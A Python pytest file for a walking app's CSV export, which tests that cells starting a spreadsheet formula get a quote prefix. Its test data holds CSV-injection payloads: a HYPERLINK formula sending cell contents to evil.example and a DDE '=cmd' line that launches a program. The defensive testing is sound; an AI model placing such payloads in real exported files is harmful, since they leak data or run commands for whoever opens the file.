"""CSV cells never start a formula (issue 12, point 12): walkapp.domain.spreadsheet."""

import csv
import io

import pytest

from walkapp.domain.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+45 12 34 56 78", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "=1", "--",
])
def test_formula_starts_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [
    "Hyldespjældet", "-", "=", "-12.5", "+3", "42", 42, -1.5, None, "", "a=b", " =1",
])
def test_plain_text_and_numbers_stay(value):
    assert safe_cell(value) == value


def test_csv_text_neutralises_headers_and_cells_and_round_trips():
    text = csv_text(["Navn", "=Antal"], [['=cmd|"/c calc"!A1', 3], ["Vej, nord", -2]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Navn", "'=Antal"], ["'=cmd|\"/c calc\"!A1", "3"], ["Vej, nord", "-2"]]
